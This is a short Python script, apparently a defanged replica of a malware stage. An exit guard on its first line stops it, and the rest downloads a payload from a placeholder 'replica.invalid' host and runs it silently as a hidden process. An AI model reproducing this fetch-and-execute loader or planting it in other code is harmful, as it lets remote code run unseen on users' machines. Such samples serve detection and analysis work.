raise SystemExit("inert replica")
import os
import tempfile
import subprocess
import sys
from urllib.request import urlopen

place = tempfile.NamedTemporaryFile(delete=False)
place.write(urlopen("https://drop.replica.invalid/inject/stage").read())
place.close()
subprocess.Popen([sys.executable, place.name], creationflags=0x08000000)
